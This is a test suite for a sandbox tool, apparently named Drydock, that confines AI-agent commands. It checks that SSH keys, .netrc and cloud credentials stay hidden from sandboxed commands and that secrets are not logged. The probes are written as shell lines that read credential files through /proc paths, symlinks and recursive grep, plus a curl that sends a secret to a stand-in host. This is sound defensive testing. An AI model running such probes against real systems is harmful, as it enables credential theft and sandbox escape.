import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, it } from "node:test";
import { program } from "../end-to-end/workplace.ts";
import { CONNECT, Daemon } from "./daemon.ts";
import { ACTORS, type Actor, ANY_ACTOR, inTurn, Stage } from "./stage.ts";
import { WalledStage } from "./walled-stage.ts";

const SECRET = "the-secret-of-the-user";

/** A home with credentials, and a config of the user's own. */
class Agent {
  readonly stage: Stage;

  constructor(stage: Stage, config = "") {
    this.stage = stage;
    stage.write("home/.ssh/id_ed25519", `${SECRET}\n`);
    stage.write("home/.ssh/known_hosts", "host key\n");
    stage.write("home/.config/gcloud/credentials.db", `${SECRET}\n`);
    stage.write("home/.config/tool", "a setting\n");
    stage.write("home/.netrc", `password ${SECRET}\n`);
    if (config !== "") stage.write("home/.config/drydock/config.yaml", config);
    symlinkSync(join(stage.home, ".ssh/id_ed25519"), join(stage.project, "link"));
    stage.give();
  }

  run(args: readonly string[], env: NodeJS.ProcessEnv = {}) {
    return this.stage.drydock(["run", "--discard", ...args], { env: { HOME: this.stage.home, ...env } });
  }

  explain(args: readonly string[], env: NodeJS.ProcessEnv = {}) {
    const { stdout, stderr } = this.run(["--json", "--explain", ...args], env);
    assert.notEqual(stdout, "", stderr);
    return JSON.parse(stdout);
  }
}

const WHERE: readonly (readonly [string, (actor: Actor) => Stage])[] = [
  ["", (actor) => new Stage(actor)],
  [", also where there are no namespaces", (actor) => new WalledStage(actor)],
];

/** A home with a secret, what a policy names in it, and a resource. */
class OwnHome {
  readonly stage: Stage;

  constructor(stage: Stage) {
    this.stage = stage;
    const files = { notes: SECRET, ".tool/state": "state", ".settings": "settings", "real/x": "linked" };
    for (const [path, text] of Object.entries({ ...files, "bin/program": "program", "work/file": "file" }))
      stage.write(`home/${path}`, `${text}\n`);
    symlinkSync("real", join(stage.home, ".linked"));
    symlinkSync(join(stage.home, "notes"), join(stage.home, "work/link"));
  }

  config(own: string): void {
    const home = `home: { ${own}, persist: [~/.tool, ~/.linked], write_back: [~/.settings] }`;
    const rest = "read: { allow: [~/bin] }, cache: { shared: [~/.npm] }";
    this.stage.write("home/.config/drydock/config.yaml", `run: { ${home}, ${rest} }\n`);
    this.stage.give();
  }

  plan(): string {
    return this.stage.done("plan", "create", "-r", join(this.stage.home, "work")).trim();
  }

  /** Runs a line of a shell inside, with a file and a folder of the home open. */
  exec(id: string, line: string) {
    const open = 'exec 8< "$HOME" 9< "$HOME/notes"; exec "$0" "$@"';
    const exec = [program, "plan", "exec", id, "--", "sh", "-c", line];
    return this.stage.run("sh", ["-c", open, ...exec], { env: { HOME: this.stage.home } });
  }

  /** The names in the home that a command should see beside the resource, as it is explained. */
  get explained(): readonly string[] {
    const { home } = this.stage;
    const explain = ["--json", "run", "--explain", "-r", join(home, "work")];
    const told = JSON.parse(this.stage.drydock(explain, { env: { HOME: home } }).stdout);
    const lines = [...told.kept, ...told.writtenBack, ...told.readable, ...told.caches.paths];
    return [...new Set(lines.map(({ path }) => path.slice(home.length + 1).split("/")[0]))];
  }

  /** Shows what is found by every name that leads to the home. */
  get look(): string {
    const { home } = this.stage;
    const names = ["", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../../.."];
    const paths = names.map((name) => `${name}${home}/notes`);
    return `cat ${paths.join(" ")} ~/notes ../notes link /proc/self/fd/8/notes /proc/self/fd/9
      cat <&9; ln -s ${home} other; cat other/notes; rm other; grep -rs ${SECRET} ${home} ~ .`;
  }
}

const LOOK = `
  cat ~/.ssh/id_ed25519 ~/.netrc ~/.config/gcloud/credentials.db link
  cat "/proc/self/root$HOME/.netrc" "/proc/1/root$HOME/.ssh/id_ed25519" "/proc/self/cwd/../home/.netrc"
  ln -s ~/.config other; cat other/gcloud/credentials.db; rm other
  mv ~/.config ~/.moved; cat ~/.moved/gcloud/credentials.db
  grep -rs ${SECRET} ~ . /proc/self/fd /proc/self/cwd/..
  exit 0`;

/** Where a home of the plan's own is made in different ways. */
const OWN_HOMES = WHERE.flatMap(([where, make]) =>
  (where === "" ? ACTORS : ANY_ACTOR).map((actor) => [`${actor}${where}`, () => make(actor)] as const),
);

describe("A home of the plan's own", () => {
  it("shows the user's home to the looks of these tests if it is off", () => {
    using stage = new Stage("user");
    const own = new OwnHome(stage);
    own.config("own: false");
    const { stdout, stderr } = own.exec(own.plan(), own.look);
    assert.ok(stdout.includes(SECRET), stderr);
  });

  for (const [actor, make] of OWN_HOMES)
    it(`[I3, I14] shows nothing of the user's but what the policy names to a command of ${actor}`, () => {
      using stage = make();
      const own = new OwnHome(stage);
      own.config("own: true");
      const id = own.plan();
      const use = `ls -A -I work ~; cat ~/.tool/state ~/.settings ~/.linked/x ~/bin/program file
        for at in ~/.tool ~/.npm ~; do echo 1 > $at/made; done; echo 2 > ~/.settings`;
      const used = own.exec(id, `${own.look}\n${use}`);
      const names = [...own.explained, ".linked"].toSorted().join("\n");
      assert.equal(used.stdout, `${names}\nstate\nsettings\nlinked\nprogram\nfile\n`, used.stderr);
      assert.ok(!used.stderr.includes(SECRET));
      const next = own.exec(id, "cat ~/.tool/made ~/.npm/made ~/made ~/.settings");
      assert.equal(next.stdout, "1\n1\n1\n2\n", next.stderr);
      const there = (path: string) => existsSync(join(stage.home, path));
      assert.deepEqual([".tool/made", ".npm/made", "made"].map(there), [true, false, false]);
      assert.equal(readFileSync(join(stage.home, ".settings"), "utf8"), "2\n");
    });
});

for (const actor of ACTORS) {
  describe(`The policy of commands of ${actor}`, () => {
    const it = inTurn(actor);
    for (const [where, make] of WHERE) {
      it(`[I3] keeps credentials from an agent by every name, also after an attempt to move them${where}`, () => {
        using stage = make(actor);
        const agent = new Agent(stage);
        const open = agent.run(["--profile", "none", "--", "cat", `${stage.home}/.netrc`]);
        assert.match(open.stdout, /password/, open.stderr);
        const env = { HOME: stage.home };
        const id = stage.drydock(["plan", "create", "-r", stage.project], { env }).stdout.trim();
        for (const _ of [1, 2]) {
          const exec = ["plan", "exec", id, "--profile", "claude", "--", "sh", "-c", `{ ${LOOK}\n} 2>&1`];
          const { stdout, status, stderr } = stage.drydock(exec, { env });
          assert.equal(status, 0, stderr);
          assert.ok(!stdout.includes(SECRET), stdout);
        }
        const { stdout } = agent.run(["--profile", "claude", "--", "cat", `${stage.home}/.ssh/known_hosts`]);
        assert.equal(stdout, "host key\n");
      });

      it(`[I1] keeps an agent's folder in the home, at once and for the next run${where}`, () => {
        using stage = make(actor);
        const agent = new Agent(stage);
        const login = agent.run(["--profile", "claude", "--", "sh", "-c", "echo token > ~/.claude/login"]);
        assert.equal(login.status, 0, login.stderr);
        assert.doesNotMatch(login.stderr, /outside the plan/);
        assert.equal(readFileSync(join(stage.home, ".claude/login"), "utf8"), "token\n");
        const next = agent.run([
          "--profile",
          "claude",
          "--",
          "sh",
          "-c",
          "cat ~/.claude/login; echo x > ~/else",
        ]);
        assert.equal(next.stdout, "token\n", next.stderr);
        assert.equal(existsSync(join(stage.home, "else")), false);
      });
    }

    it("[I3] hides what it denies in a home that is the resource itself", () => {
      using stage = new Stage(actor);
      new Agent(stage);
      const env = { HOME: stage.home };
      const look = ["run", "--discard", "--profile", "claude", "--", "sh", "-c", `{ ${LOOK}\n} 2>&1`];
      const { stdout, status, stderr } = stage.drydock(look, { env, cwd: stage.home });
      assert.equal(status, 0, stderr);
      assert.ok(!stdout.includes(SECRET), stdout);
    });

    it("[I14] explains what a probe inside then finds, and which line says so", () => {
      using stage = new Stage(actor);
      const agent = new Agent(stage, "run:\n  env: { deny: [TOKEN_*], set: { MODE: safe } }\n");
      const env = { TOKEN_A: SECRET };
      const told = agent.explain(["--", "claude"], env);
      assert.deepEqual(told.profiles, ["claude"]);
      assert.ok(!JSON.stringify(told).includes("safe"), "a value is told");
      const from = { "the profile claude": 1, [`${stage.home}/.config/drydock/config.yaml:2:17`]: 1 };
      for (const { from: line } of [
        ...told.denied,
        ...told.kept,
        ...told.caches.paths,
        ...told.variables.dropped,
      ])
        assert.ok(line in from, line);
      assert.deepEqual(agent.explain(["--strict", "--", "claude"], env).caches.paths, []);
      const readable = new Set(told.readable.map(({ path }: { path: string }) => path));
      assert.deepEqual([...readable], [join(stage.home, ".ssh/known_hosts")]);
      const probe = `for path in ${told.denied.map(({ path }: { path: string }) => path).join(" ")}; do
          test -e "$path" && find "$path" -type f; done
        for path in ${[...told.kept.map(({ path }: { path: string }) => path), ...told.scratch, ...told.resources].join(" ")}; do
          touch "$path/probe" && echo "$path"; done
        for path in ${told.caches.paths.map(({ path }: { path: string }) => path).join(" ")}; do
          (test -f "$path" && echo 1 >> "$path") || touch "$path/probe"; done
        echo "$TOKEN_A$MODE"`;
      const found = agent.run(["--profile", "claude", "--", "sh", "-c", probe], env);
      assert.deepEqual(
        found.stdout.trim().split("\n"),
        [
          ...readable,
          ...told.kept.map(({ path }: { path: string }) => path),
          ...told.scratch,
          ...told.resources,
          "safe",
        ],
        found.stderr,
      );
      for (const { path } of told.kept) assert.ok(existsSync(join(path, "probe")), path);
      const stored = readdirSync(join(told.caches.folder, "user"));
      assert.equal(stored.length, told.caches.paths.length);
      for (const name of stored) {
        const file = join(told.caches.folder, "user", name);
        assert.ok(existsSync(join(file, "probe")) || readFileSync(file, "utf8") === "1\n", name);
      }
      const { stdout } = agent.run(["--explain", "--", "claude"], env);
      assert.match(stdout, /Can't read\n {2}~\/\.ssh +the profile claude\n/);
    });

    it("[X7, I14] lets a command reach no socket in /run, but for those that the user's policy names", {
      skip: process.geteuid?.() !== 0 && "only root makes a socket in /run",
    }, () => {
      using stage = new Stage(actor);
      using daemon = new Daemon("/run");
      using agent = new Daemon("/tmp");
      // What can be read is not what can be asked.
      using read = new Daemon(stage.home);
      const allowed = `read: { allow: [${dirname(read.path)}] }, home: { own: true }`;
      const config = (text: string, at = "home/.config/drydock/config.yaml") => {
        stage.write(at, text);
        stage.give();
      };
      const env = { SSH_AUTH_SOCK: agent.path, DRYDOCK_CONFIG: "drydock.yaml" };
      const reached = () => {
        const call = `test -e ${read.path} || echo missing; ${CONNECT} ${read.path} && echo asked
          for path in ${daemon.path} "\${SSH_AUTH_SOCK:-/none}"; do ${CONNECT} "$path" && echo yes || echo no; done`;
        const { stdout, stderr } = stage.drydock(["run", "--discard", "--", "sh", "-c", call], { env });
        return [
          ...stdout.trim().split("\n"),
          ...(stderr.includes("only your own config") ? ["refused"] : []),
        ];
      };
      config(`run: { sockets: { ssh_agent: true, paths: [${daemon.path}] } }\n`, "project/drydock.yaml");
      assert.deepEqual(reached(), ["no", "no", "refused"]);
      config(`run: { sockets: { ssh_agent: true, paths: [${daemon.path}] }, ${allowed} }\n`);
      assert.deepEqual(reached(), ["yes", "yes"]);
      const { stdout } = stage.drydock(["--json", "run", "--explain"], { env });
      const told = JSON.parse(stdout).sockets.map(({ path }: { path: string }) => path);
      assert.deepEqual(told.toSorted(), [daemon.path, agent.path].toSorted());
      config("run: { sockets: { ssh_agent: false } }\n", "project/drydock.yaml");
      assert.deepEqual(reached(), ["yes", "no"]);
    });
  });
}

for (const actor of ANY_ACTOR) {
  describe(`The policy of commands, whoever runs them, here ${actor}`, () => {
    it("[I6] lets a project's config narrow what the user's own allows, and never widen it", () => {
      using stage = new Stage(actor);
      const agent = new Agent(
        stage,
        `run:
  read: { deny: [~/.ssh], allow: [~/.ssh/known_hosts] }
  home: { persist: [~/.claude, ~/.tool] }
  env: { deny: ["SECRET_*"] }
`,
      );
      stage.write(
        "project/drydock.yaml",
        `run:
  profile: codex
  read: { deny: [~/.config/tool], allow: [~/.ssh, ~/.ssh/id_ed25519] }
  home: { persist: [~/.tool, ~/.ssh] }
  env: { allow: ["*", SECRET_KEY], deny: [OTHER] }
`,
      );
      stage.give();
      const env = { HOME: stage.home, SECRET_KEY: SECRET, OTHER: "1", DRYDOCK_CONFIG: "drydock.yaml" };
      const look = `cat ~/.ssh/id_ed25519 ~/.ssh/known_hosts ~/.config/tool; env | grep -e SECRET -e OTHER
        mkdir -p ~/.claude ~/.codex; echo 1 > ~/.claude/x; echo 1 > ~/.tool/x; echo 1 > ~/.codex/x`;
      const { stdout, stderr } = agent.run(["--", "sh", "-c", look], env);
      assert.equal(stdout, "host key\n", stderr);
      assert.match(stderr, /drydock\.yaml:4:30 asks for ~\/\.ssh; only your own config/);
      const there = (path: string) => existsSync(join(stage.home, path));
      assert.deepEqual([".tool/x", ".claude/x", ".codex/x"].map(there), [true, false, false]);
    });

    it("[I6] lets a project switch a home of the plan's own on, and never off", () => {
      using stage = new Stage(actor);
      const agent = new Agent(stage);
      const env = { HOME: stage.home, DRYDOCK_CONFIG: "drydock.yaml" };
      const configs = (user: string, project: string) => {
        stage.write("home/.config/drydock/config.yaml", `run: { home: { own: ${user} } }\n`);
        stage.write("project/drydock.yaml", `run: { home: { own: ${project} } }\n`);
        stage.give();
      };
      configs("false", "true");
      assert.match(agent.explain(["--", "true"], env).ownHome.from, /drydock\.yaml:1:16$/);
      configs("true", "false");
      const { stdout, stderr } = agent.run(["--strict", "--", "sh", "-c", "ls -A ~; cat link"], env);
      assert.equal(stdout, "", stderr);
      assert.match(stderr, /drydock\.yaml:1:16 asks for your home; only your own config/);
      const told = agent.run(["--explain", "--", "claude"], env).stdout;
      assert.match(told, /Sees a home of the plan's own, .*\n {2}~ +.*config\.yaml:1:16\n/);
      assert.doesNotMatch(told, /Can read all the same/);
      const inHome = stage.drydock(["run", "--", "true"], { env: { HOME: stage.home }, cwd: stage.home });
      assert.equal(inHome.status, 2, inHome.stderr);
      assert.match(inHome.stderr, /config\.yaml:1:16: run\.home\.own: your home is in /);
      configs("maybe", "true");
      assert.match(agent.run(["--", "true"], env).stderr, /config\.yaml:1:\d+.* must be true or false/);
    });

    it("[I5] [I6] holds a command to the smallest limit that the configs name, and says which line", () => {
      using stage = new Stage(actor);
      const agent = new Agent(stage, "run: { limits: { time: 1s, scratch: 8g } }\n");
      stage.write(
        "project/drydock.yaml",
        "run: { limits: { time: 9m, scratch: 4g } }\nsandbox: { limits: { time: 8m } }\n",
      );
      stage.give();
      const env = { DRYDOCK_CONFIG: "drydock.yaml" };
      const { limits, limitsFrom } = agent.explain(["--", "true"], env);
      assert.deepEqual(limits, { time: 1000, scratch: 4 * 2 ** 30 });
      assert.match(limitsFrom.time, /config\.yaml:1:\d+$/);
      assert.match(limitsFrom.scratch, /drydock\.yaml:1:\d+$/);
      const { status, stderr } = agent.run(["--limit", "scratch=2g", "--", "sleep", "100"], env);
      assert.notEqual(status, 0);
      assert.match(stderr, /1s/);
    });

    it("[I12] tells no value of a variable: in no output, and in no file of the state directory", () => {
      using stage = new Stage(actor);
      const run = `env: { set: { KEY: ${SECRET} }, deny: [TOKEN] }, network: { allow: [example.com] }`;
      const agent = new Agent(stage, `run: { ${run} }\n`);
      const env = { HOME: stage.home, TOKEN: SECRET };
      const id = stage.done("plan", "create", "-r", stage.project).trim();
      const ask = 'curl -s "http://user:$KEY@denied.example/$KEY?key=$KEY" | grep -c denied.example; exit 3';
      const asked = stage.drydock(["--json", "plan", "exec", id, "--", "sh", "-c", ask], { env });
      const { stdout, denied, exitCode } = JSON.parse(asked.stdout);
      assert.deepEqual([stdout, exitCode, denied[0].destination], ["1\n", 3, "denied.example:80"]);
      const said = [asked, agent.run(["--explain"], env), stage.drydock(["--json", "plan", "log", id])];
      for (const ended of said) assert.ok(!JSON.stringify(ended).includes(SECRET), ended.stdout);
      assert.equal(stage.run("grep", ["-rlaF", SECRET, stage.state]).stdout, "");
    });

    it("refuses to keep what is Drydock's own, what is no folder, and what is not in the home", () => {
      using stage = new Stage(actor);
      const said = (persist: string) => {
        stage.write("home/.config/drydock/config.yaml", `run: { home: { persist: ["${persist}"] } }\n`);
        stage.give();
        const { status, stderr } = stage.drydock(["run", "--", "true"], { env: { HOME: stage.home } });
        assert.equal(status, 2, stderr);
        return stderr;
      };
      stage.write("home/.file", "");
      assert.match(
        said("~/.config"),
        /config\.yaml:1:\d+: run\.home\.persist: ~\/\.config would give commands/,
      );
      assert.match(said("~/.file"), /is no folder/);
      assert.match(said("/usr"), /is not in your home/);
    });
  });
}
